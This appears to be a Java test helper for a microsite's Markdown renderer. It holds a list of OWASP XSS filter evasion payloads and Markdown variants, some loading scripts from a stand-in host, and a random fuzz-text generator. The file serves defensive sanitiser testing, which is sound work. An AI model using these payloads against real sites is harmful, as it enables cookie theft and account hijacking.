package de.bmas.microsite.content.source;

import de.bmas.microsite.content.model.Session;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * Hostile Markdown for the security property tests: the OWASP XSS filter evasion cases, and random text drawn from
 * them and from fragments of Markdown, HTML and awkward characters.
 *
 * <p>The random cases draw a new seed on every run (one per test JVM) and name it when they fail; repeat a run with
 * {@code -Dhostile.seed=N}.
 */
final class HostileMarkdown {

    /** From the OWASP XSS Filter Evasion Cheat Sheet, plus the Markdown spellings of the same tricks. */
    static final List<String> OWASP = List.of(
            "<script>alert('XSS')</script>",
            "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
            "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/"
                    + "+alert(1)//'>",
            "<IMG SRC=\"javascript:alert('XSS');\">",
            "<IMG SRC=JaVaScRiPt:alert('XSS')>",
            "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
            "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
            "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
            "<IMG SRC=# onmouseover=\"alert('xxs')\">",
            "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
            "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
                    + "&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088"
                    + "&#0000083&#0000083&#0000039&#0000041\">",
            "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;"
                    + "&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
            "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27"
                    + "&#x58&#x53&#x53&#x27&#x29>",
            "<IMG SRC=\"jav\tascript:alert('XSS');\">",
            "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
            "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
            "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
            "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
            "<SCRIPT/XSS SRC=\"https://xss.example/xss.js\"></SCRIPT>",
            "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
            "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
            "<SCRIPT SRC=https://xss.example/xss.js?< B >",
            "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
            "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
            "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
            "<IMG DYNSRC=\"javascript:alert('XSS')\">",
            "<IMG LOWSRC=\"javascript:alert('XSS')\">",
            "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
            "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
            "<svg/onload=alert('XSS')>",
            "<svg><script>alert(1)</script></svg>",
            "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
            "<BR SIZE=\"&{alert('XSS')}\">",
            "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
            "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
            "<META HTTP-EQUIV=\"Link\" Content=\"<https://xss.example/xss.css>; REL=stylesheet\">",
            "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
            "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,"
                    + "PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
            "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
            "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
            "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
            "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
            "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
            "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
            "<DIV STYLE=\"width: expression(alert('XSS'));\">",
            "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
            "<BASE HREF=\"javascript:alert('XSS');//\">",
            "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://xss.example/scriptlet.html\"></OBJECT>",
            "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\" type=\"image/svg+xml\" "
                    + "AllowScriptAccess=\"always\"></EMBED>",
            "<form action=\"javascript:alert(1)\"><button>X</button></form>",
            "<button formaction=\"javascript:alert(1)\">X</button>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
            "<details open ontoggle=alert(1)>",
            "<video><source onerror=\"alert(1)\"></video>",
            "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
            "<XSS STYLE=\"behavior: url(xss.htc);\">",
            "<? echo('<SCR)';echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
            "<a href=\"  javascript:alert(1)\">x</a>",
            "<a href=\"java\u0000script:alert(1)\">x</a>",
            "<template><script>alert(1)</script></template>",
            "<object data=\"javascript:alert(1)\"></object>",
            "<img srcset=\"javascript:alert(1) 1x\">",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<a href=\"javascript&colon;alert(1)\">x</a>",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](javascript&#58;alert(1))",
            "[x](&#106;avascript:alert(1))",
            "[x]( javascript:alert(1) )",
            "[x](<javascript:alert(1)>)",
            "![x](javascript:alert(1))",
            "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
            "[x](vbscript:msgbox(1))",
            "[x][r]\n\n[r]: javascript:alert(1)",
            "<javascript:alert(1)>",
            "[x](data:text/html,<script>alert(1)</script>)",
            "[a](javascript:alert&#40;1&#41;)",
            "`<script>alert(1)</script>`",
            "```html\n<script>alert(1)</script>\n```",
            "[<img src=x onerror=alert(1)>](https://example.com)",
            "[x](https://example.com \"title\\\" onmouseover=\\\"alert(1)\")",
            "<https://example.com/\" onmouseover=\"alert(1)>",
            "www.example.com/<script>alert(1)</script>",
            "| a |\n|---|\n| <script>alert(1)</script> |",
            "> <script>alert(1)</script>\n> [x](javascript:alert(1))",
            "- <img src=x onerror=alert(1)>\n  - [x](javascript:alert(1))",
            "\"><script>alert(1)</script>",
            "'--></style></script><script>alert(1)</script>",
            "</script><script>alert(1)</script>",
            "{\"@context\":\"https://schema.org\"}</script><script>alert(1)</script>",
            "&lt;script&gt;alert(1)&lt;/script&gt;");

    /** Material for random documents: Markdown syntax, HTML, entities, schemes and awkward characters. */
    private static final List<String> FRAGMENTS = List.of("[", "]", "(", ")", "![", "](", "<", ">", "</", "/>",
            "*", "**", "_", "`", "```", "~~~", "#", "## ", "> ", "- ", "1. ", "|", "---", "\n", "\n\n", "  \n",
            "\t", " ", "&", "&#", "&#x", ";", "\"", "'", "=", ":", "javascript:", "JaVaScRiPt:", "java\tscript:",
            "vbscript:", "data:", "data:text/html,", "&#106;", "&#x6A;", "&colon;", "%6A", "\\", "<script>",
            "</script>", "<img src=x ", "onerror=", "onload=", "<a href=", "<svg ", "<math>", "<style>",
            "<iframe ", "<object ", "<embed ", "<form action=", "<base href=", "<meta http-equiv=refresh ",
            "style=", "alert(1)", "https://example.com", "/sessions", "\u0000", "\u202e", "\u200b", "\ufeff",
            "\ud83d\ude00", "ä", "ß", "„", "“", "–", "<!--", "-->", "<![CDATA[", "]]>", "{{", "}}", "${", "[[",
            "]]", "@{", "th:utext=", "*{", "#{",
            // structure that parsers accept where HTML forbids it, and elements whose removal moves their content
            "<table>", "<tr>", "<td>", "<th scope=x>", "<td colspan=0>", "<caption>", "<ul>", "<ol start=x>",
            "<li>", "<dl>", "<dd>", "<div>", "<p>", "</p>", "<b>", "<h2>", "<h2 id=x>", "<a href=/x>", "</a>",
            "<math><mtext>", "<mglyph>", "<button>", "<select>", "<template>", "<object>", "<marquee>", "&#14;",
            "<span lang=en>", "<span lang=\"x y\">", "mailto:", "info@example.org", "<info@example.org>");

    static final long SEED = Long.getLong("hostile.seed", new Random().nextLong());
    private static final MarkdownRenderer RENDERER = new MarkdownRenderer();

    private HostileMarkdown() {
    }

    static String randomText(Random random, int fragments) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < fragments; i++) {
            switch (random.nextInt(4)) {
                case 0 -> text.append(OWASP.get(random.nextInt(OWASP.size())));
                case 1 -> text.appendCodePoint(random.nextInt(0x3000));
                default -> text.append(FRAGMENTS.get(random.nextInt(FRAGMENTS.size())));
            }
        }
        return text.toString();
    }

    /** The body the renderer makes of {@code markdown}, as a session's text. */
    static String render(String markdown) {
        List<Problem> problems = new ArrayList<>();
        return RENDERER.render(new SourceText("hostile.md", markdown, "", 1, markdown, 1), Session.class, problems)
                .html();
    }
}
